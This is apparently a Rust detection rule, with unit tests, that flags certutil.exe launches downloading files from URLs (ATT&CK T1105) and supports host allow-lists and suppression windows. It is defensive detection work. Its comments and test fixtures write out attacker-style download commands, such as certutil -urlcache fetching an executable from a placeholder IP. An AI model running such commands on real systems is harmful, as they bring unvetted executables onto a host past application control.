//! Rule `certutil-download`: `certutil.exe` fetches a file from a URL — ingress tool transfer
//! (ATT&CK T1105) with a signed Windows binary, as in `certutil -urlcache -split -f
//! http://203.0.113.7/a.exe a.exe`, a staple of loaders and hands-on-keyboard intrusions.
//!
//! It reads process launches only. A launch matches when the image's basename is
//! `certutil.exe`, the command line uses the `urlcache` or `verifyctl` verb (after `-` or `/`)
//! and one of its arguments is an `http`, `https` or `ftp` URL whose host is not in
//! `allowed_hosts` (an internal CRL server, say). Each device and URL is reported once per
//! `quiet_minutes` of event time, through a marker in host state; a host-state counter over
//! the same window says how many downloads the device made. `quiet_minutes = 0` reports every
//! download and leaves host state alone.
//!
//! The per-event path borrows the batch's text and allocates only for a match. This is the
//! worked example of `docs/writing-rules-rust.md`.

use core::fmt::Write;

use yagura_sdk::matchers::{ends_with_ignore_case, starts_with_ignore_case};
use yagura_sdk::prelude::*;

/// The certutil verbs that fetch a URL, matched anywhere in the command line.
const VERBS: &[&str] = &["urlcache", "verifyctl"];
/// The URL schemes certutil fetches.
const SCHEMES: &[&str] = &["http://", "https://", "ftp://"];

/// The rule: its settings and a key buffer reused from event to event.
struct CertutilDownload {
    /// URL hosts not to report (with their subdomains), lowercase
    allowed_hosts: Vec<String>,
    /// how long a device and URL stay quiet after a finding; `None` reports every download
    quiet: Option<Window>,
    /// a host-state key, rebuilt for each match
    key: String,
}

impl Rule for CertutilDownload {
    fn info() -> RuleInfo {
        RuleInfo::new("certutil-download", "certutil downloads a file")
            .description(
                "certutil.exe fetched a file from a URL with -urlcache or -verifyctl: a signed \
                 Windows binary used to bring tools or malware onto the host.",
            )
            .severity(Severity::High)
            .technique("T1105")
            .subscribe(EventClass::Process)
            .param(Param::text_list(
                "allowed_hosts",
                "URL hosts certutil may fetch from, e.g. an internal CRL server \
                 (`crl.corp.example`); an entry also allows its subdomains",
                &[],
            ))
            .param(Param::integer(
                "quiet_minutes",
                "report a device and URL once per this many minutes of event time; \
                 0 reports every download",
                60,
            ))
            .build()
    }

    fn init(config: &Config) -> Result<Self, String> {
        let mut allowed_hosts = Vec::new();
        for entry in config.text_list("allowed_hosts")? {
            let host = entry.trim();
            if host.is_empty() || host.contains(['/', ':', '@']) {
                return Err(ConfigError::invalid(
                    "allowed_hosts",
                    format!("`{entry}` is not a host name; write `crl.corp.example`, not a URL"),
                )
                .into());
            }
            allowed_hosts.push(host.to_ascii_lowercase());
        }
        let quiet = config.integer_in("quiet_minutes", 0..=7 * 24 * 60)?;
        Ok(CertutilDownload {
            allowed_hosts,
            quiet: (quiet > 0).then(|| Window::minutes(quiet.unsigned_abs())),
            key: String::with_capacity(128),
        })
    }

    fn on_events(&mut self, batch: &Batch, out: &mut Vec<Finding>) -> Result<(), String> {
        let mut state_errors = 0u32;
        for ev in batch {
            let Some((cmd, url)) = self.download(&ev) else {
                continue;
            };
            let mut downloads = None;
            if let Some(window) = self.quiet {
                let device = ev.hostname().unwrap_or("");
                self.key.clear();
                // Writing to a String cannot fail.
                let _ = write!(self.key, "downloads|{device}");
                match state::counter_add(&self.key, ev.time, window, 1) {
                    Ok(n) => downloads = Some(n),
                    Err(_) => state_errors += 1,
                }
                self.key.clear();
                let _ = write!(self.key, "reported|{device}|{url}");
                match state::mark_once(&self.key, ev.time, window.end_from(ev.time)) {
                    Ok(true) => {}
                    Ok(false) => continue, // reported within the window already
                    Err(_) => state_errors += 1, // report rather than miss it
                }
            }
            out.push(finding(&ev, cmd, url, downloads));
        }
        if state_errors > 0 {
            log::warn(&format!(
                "host state refused {state_errors} updates in a batch of {}; \
                 those downloads were reported without suppression",
                batch.len()
            ));
        }
        Ok(())
    }
}

impl CertutilDownload {
    /// The command line and URL of a certutil launch that downloads from a host not
    /// allowed; `None` for every other event. Reads host state not at all.
    fn download<'a>(&self, ev: &EventRef<'a>) -> Option<(&'a str, &'a str)> {
        // Launches only; an adapter that cannot tell says `unknown`.
        if !matches!(ev.activity, Activity::Create | Activity::Unknown) {
            return None;
        }
        let image = ev.process_image()?;
        if !eq_ignore_case(basename(image), "certutil.exe") {
            return None;
        }
        let cmd = ev.process_cmd_line()?;
        if !contains_any_ignore_case(cmd, VERBS) {
            return None;
        }
        let url = first_url(cmd)?;
        (!self.is_allowed(url_host(url))).then_some((cmd, url))
    }

    /// Whether `host` is an allowed host or a subdomain of one.
    fn is_allowed(&self, host: &str) -> bool {
        self.allowed_hosts.iter().any(|allowed| {
            ends_with_ignore_case(host, allowed)
                && (host.len() == allowed.len()
                    || host.as_bytes()[host.len() - allowed.len() - 1] == b'.')
        })
    }
}

/// The first argument of `cmd` that is a URL of [`SCHEMES`], without surrounding quotes.
fn first_url(cmd: &str) -> Option<&str> {
    cmd.split_ascii_whitespace()
        .map(|arg| arg.trim_matches(['"', '\'']))
        .find(|arg| SCHEMES.iter().any(|s| starts_with_ignore_case(arg, s)))
}

/// The host of a URL: what lies between `://` (and any `user@`) and the port or path.
fn url_host(url: &str) -> &str {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let host = authority
        .rsplit_once('@')
        .map_or(authority, |(_, host)| host);
    match host.strip_prefix('[') {
        Some(v6) => v6.split(']').next().unwrap_or(v6),
        None => host.split(':').next().unwrap_or(host),
    }
}

/// The finding for a download; `downloads` is the device's count in the quiet window.
fn finding(ev: &EventRef<'_>, cmd: &str, url: &str, downloads: Option<i64>) -> Finding {
    let device = ev.hostname().unwrap_or("");
    let mut f = Finding::new(format!("certutil downloaded {url}"))
        .description(format!(
            "certutil.exe fetched {url} on {}: certutil is a certificate tool, and fetching \
             a URL with it is a common way to bring tools onto a host past application control.",
            if device.is_empty() {
                "an unnamed host"
            } else {
                device
            }
        ))
        .severity(Severity::High)
        .confidence(80)
        .technique("T1105")
        .evidence(ev.seq)
        .time(ev.time)
        .dedup_key(format!("{device}|{url}"));
    if !device.is_empty() {
        f = f.host(device);
    }
    if let Some(user) = ev.qualified_user() {
        f = f.user(user);
    }
    if let Some(label) = ev.process_label() {
        f = f.process(label).role("actor");
    }
    if let Some(label) = ev.parent_label() {
        f = f.process(label).role("parent");
    }
    f.context("url", url)
        .context("url_host", url_host(url))
        .context("cmd_line", cmd)
        .context_opt("parent_cmd_line", ev.parent_cmd_line())
        .context_opt("downloads_in_window", downloads)
        .build()
}

export_rule!(CertutilDownload);

#[cfg(test)]
mod tests {
    use yagura_sdk::testing::BatchBuilder;

    use super::*;

    /// The rule with `values` over its declared defaults, as the host would build it.
    fn rule(values: Vec<(String, Value)>) -> Result<CertutilDownload, String> {
        let config = Config::new(values).with_defaults(CertutilDownload::info().params);
        CertutilDownload::init(&config)
    }

    /// Runs a batch through a rule that keeps off host state (`quiet_minutes = 0`), the
    /// only kind `on_events` can run natively.
    fn run(mut values: Vec<(String, Value)>, batch: &Batch) -> Vec<Finding> {
        values.push(("quiet_minutes".into(), Value::Integer(0)));
        let mut rule = rule(values).expect("valid config");
        let mut out = Vec::new();
        rule.on_events(batch, &mut out).expect("never fails");
        out
    }

    fn launch(b: &mut BatchBuilder, seq: u64, image: &str, cmd: &str) {
        b.event(EventClass::Process, seq, 1_714_557_600_000 + seq as i64)
            .activity(Activity::Create)
            .hostname("WS07")
            .user("CORP", "bob")
            .process_image(image)
            .process_pid(6120)
            .process_cmd_line(cmd)
            .parent_image(r"C:\Windows\System32\cmd.exe")
            .parent_pid(4100)
            .push();
    }

    const CERTUTIL: &str = r"C:\Windows\System32\certutil.exe";

    #[test]
    fn urlcache_download_is_reported_with_url_and_entities() {
        let mut b = BatchBuilder::new();
        launch(
            &mut b,
            3,
            CERTUTIL,
            r"certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\Users\Public\a.exe",
        );
        let out = run(vec![], &b.build());
        assert_eq!(out.len(), 1);
        let f = &out[0];
        assert_eq!(f.title, "certutil downloaded http://203.0.113.7/a.exe");
        assert_eq!(f.techniques, ["T1105"]);
        assert_eq!(f.evidence, [3]);
        assert_eq!(f.time, 1_714_557_600_003);
        assert_eq!(f.dedup_key, "WS07|http://203.0.113.7/a.exe");
        let values: Vec<&str> = f.entities.iter().map(|e| e.value.as_str()).collect();
        assert_eq!(
            values,
            [
                "WS07",
                r"CORP\bob",
                "certutil.exe (pid 6120)",
                "cmd.exe (pid 4100)"
            ]
        );
        let context = |k: &str| f.context.iter().find(|(key, _)| key == k).map(|(_, v)| v);
        assert_eq!(context("url_host").map(String::as_str), Some("203.0.113.7"));
        assert_eq!(context("downloads_in_window"), None, "no state was read");
    }

    #[test]
    fn other_verbs_programs_and_activities_are_not_reported() {
        let mut b = BatchBuilder::new();
        launch(
            &mut b,
            1,
            CERTUTIL,
            r"certutil -hashfile C:\setup.msi SHA256",
        );
        launch(&mut b, 2, CERTUTIL, "certutil -urlcache * delete");
        launch(
            &mut b,
            3,
            r"C:\Windows\System32\curl.exe",
            "curl.exe -o a.exe http://203.0.113.7/a.exe",
        );
        b.event(EventClass::Process, 4, 0)
            .activity(Activity::Delete)
            .process_image(CERTUTIL)
            .process_cmd_line("certutil -urlcache -f http://203.0.113.7/a.exe a.exe")
            .push();
        assert!(run(vec![], &b.build()).is_empty());
    }

    #[test]
    fn slash_verbs_quotes_and_https_match() {
        let mut b = BatchBuilder::new();
        launch(
            &mut b,
            1,
            r"C:\WINDOWS\system32\CertUtil.exe",
            r#"CertUtil.exe /verifyctl /f /split "HTTPS://user@files.example.net:8443/x.cab" x.cab"#,
        );
        let out = run(vec![], &b.build());
        assert_eq!(out.len(), 1);
        assert_eq!(
            out[0].title,
            "certutil downloaded HTTPS://user@files.example.net:8443/x.cab"
        );
    }

    #[test]
    fn allowed_hosts_and_their_subdomains_are_not_reported() {
        let mut b = BatchBuilder::new();
        let fetch = |host: &str| format!(r"certutil -urlcache -f http://{host}/root.crl C:\t.crl");
        launch(&mut b, 1, CERTUTIL, &fetch("crl.corp.example"));
        launch(&mut b, 2, CERTUTIL, &fetch("CA1.CRL.corp.example:8080"));
        launch(&mut b, 3, CERTUTIL, &fetch("evilcrl.corp.example"));
        let batch = b.build();
        let allow = vec![(
            "allowed_hosts".into(),
            Value::TextList(vec!["CRL.corp.example".into()]),
        )];
        let out = run(allow, &batch);
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].evidence, [3]);
        assert_eq!(run(vec![], &batch).len(), 3);
    }

    #[test]
    fn bad_settings_name_the_parameter() {
        let url = vec![(
            "allowed_hosts".into(),
            Value::TextList(vec!["http://crl.corp.example/".into()]),
        )];
        let err = rule(url).err().expect("a URL is not a host");
        assert_eq!(
            err,
            "parameter `allowed_hosts`: `http://crl.corp.example/` is not a host name; \
             write `crl.corp.example`, not a URL"
        );
        let err = rule(vec![("quiet_minutes".into(), Value::Integer(-5))])
            .err()
            .expect("negative");
        assert_eq!(
            err,
            "parameter `quiet_minutes`: -5 is out of range, expected 0..=10080"
        );
    }

    #[test]
    fn url_hosts() {
        assert_eq!(url_host("http://a.example/x"), "a.example");
        assert_eq!(url_host("ftp://u:p@a.example:21/x"), "a.example");
        assert_eq!(url_host("http://[2001:db8::1]:80/x"), "2001:db8::1");
        assert_eq!(url_host("https://a.example?x=1"), "a.example");
        assert_eq!(
            first_url(r#"certutil -urlcache 'http://a/b' c"#),
            Some("http://a/b")
        );
        assert_eq!(first_url("certutil -urlcache -f a b"), None);
    }
}
